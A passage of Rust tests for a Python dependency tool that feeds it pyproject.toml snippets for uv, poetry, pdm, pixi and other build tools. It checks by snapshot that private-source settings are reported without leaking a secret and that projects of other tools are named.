        "[tool.uv.sources]\nidna = { git = \"git@host:org/idna.git\" }",
        "[tool.uv.sources]\nidna = { git = \"https://host/idna\", lfs = true }",
        "[tool.uv.sources]\nidna = \"./idna\"",
        "[[tool.poetry.source]]\nname = \"private\"\nurl = \"https://private.example/simple\"",
        "[tool.poetry.dependencies]\nidna = { source = \"private\" }",
        "[[tool.pdm.source]]\nname = \"private\"\nurl = \"https://private.example/simple\"",
        "[tool.pdm.resolution.overrides]\nidna = \"2\"",
        "[tool.pixi.pypi-dependencies]\nidna = { path = \"x\" }",
    ] {
        let sandbox = Sandbox::new();
        sandbox.write("pyproject.toml", project(more));
        let text = said(&sandbox, &["pyproject.toml"], 2);
        assert!(!text.contains("s3cret"), "{text}");
        told.push_str(&text);
    }
    insta::assert_snapshot!(told);
}

#[test]
fn projects_of_other_tools_are_named() {
    let mut told = String::new();
    for text in [
        "[tool.poetry]\nname = \"x\"\n[tool.poetry.dependencies]\nidna = \"^3\"\n",
        "[tool.pdm]\n",
        "[tool.pixi.dependencies]\nidna = \"*\"\n",
        "[tool.flit.metadata]\nmodule = \"x\"\n",
        "[tool.uv.workspace]\nmembers = []\n",
        "[build-system]\nrequires = []\n",
        "[project]\nname = \"x\"\ndynamic = [\"dependencies\"]\n",
        "[project]\nname = \"x\"\ndynamic = [\"dependencies\"]\n[tool.setuptools.dynamic]\ndependencies = { file = [\"requirements.txt\"] }\n",
        "[project]\nname = \"x\"\ndynamic = [\"dependencies\"]\n[tool.hatch.metadata.hooks.requirements_txt]\nfiles = [\"deps.txt\"]\n",
        "[project]\nname = \"x\"\ndynamic = [\"dependencies\"]\n[tool.poetry.dependencies]\nidna = \"^3\"\n",
    ] {
        let sandbox = Sandbox::new();
        sandbox.write("pyproject.toml", text);
        told.push_str(&said(&sandbox, &["pyproject.toml"], 2));
    }
    insta::assert_snapshot!(told);
}
